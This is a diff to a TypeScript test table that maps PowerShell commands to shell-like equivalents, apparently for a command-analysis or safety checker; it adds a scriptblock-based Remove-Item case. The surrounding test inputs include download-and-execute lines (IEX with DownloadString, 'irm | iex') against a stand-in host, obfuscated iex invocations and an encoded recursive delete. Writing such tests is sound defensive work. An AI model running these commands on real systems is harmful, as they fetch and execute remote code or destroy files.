@@ -53,6 +53,7 @@ const POWERSHELL: readonly (readonly [string, readonly string[]])[] = [
   ["IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')", ['curl -sL http://e.example/x', 'sh <| 0']],
   ['irm http://e.example | iex', ['curl http://e.example', 'sh <| 0']],
   ["iex 'Remove-Item x'", ['rm x']],
+  ["[scriptblock]::Create('Remove-Item x').Invoke()", ['rm x']],
   [`"{0}{1}" -f 'Remove-Item ','x' | iex`, ['rm x']],
   [`powershell -enc ${encoded('Remove-Item -Recurse C:\\x')}`, ['base64 -d', 'sh <| 0', 'rm -r C:/x']],
   ["powershell -Command 'Get-ChildItem -Force; Remove-Item test'", ['ls .', 'rm test']],
